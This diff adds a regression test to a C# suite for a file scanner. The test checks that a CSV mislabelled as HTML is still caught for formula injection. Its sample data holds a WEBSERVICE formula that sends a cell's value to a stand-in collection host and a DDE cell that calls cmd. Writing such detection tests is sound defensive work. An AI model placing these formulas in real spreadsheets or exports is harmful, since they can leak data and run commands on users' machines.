@@ -40,6 +40,24 @@ public sealed class CsvFetchTests
         (await TestInspection.InspectAsync(Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("nom,service\r\nDUPONT,IMPORT nocturne\r\n")).ToArray(), "export.csv")).IsClean();
     }
 
+    /// <summary>
+    /// Regression (review 31, defect 14): a CSV export with a DDE cell and a WEBSERVICE cell, and a free-text cell
+    /// mentioning "&lt;html&gt;" on a later line, was typed a page and clean. The cell checks run on pages too.
+    /// </summary>
+    [Fact]
+    public async Task Regression_a_csv_with_html_in_a_free_text_cell_was_typed_html_and_its_dde_cells_unread()
+    {
+        var csv = "name,value\n=WEBSERVICE(\"http://collect.example.invalid/?\"&A1),2\n=cmd|' /C echo inert'!A0,1\nnote,\"the <html> export failed\"\n";
+        var verdict = await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(csv), "export.csv");
+        Assert.Equal(nameof(ContentType.Html), verdict.ContentType);
+        verdict.Has("csv.external-fetch");
+        verdict.Has("csv.dde-injection");
+        verdict.IsMalicious();
+
+        // A page with a table and a pipe in its text is a page.
+        (await TestInspection.InspectAsync("<!doctype html>\n<html><body><table><tr><td>IRM | Scanner</td><td>-5 | 3 !</td></tr></table></body></html>\n"u8.ToArray(), "page.html")).IsClean();
+    }
+
     [Fact]
     public async Task The_function_named_in_plain_text_or_a_dde_cell_after_it_are_told_apart()
     {
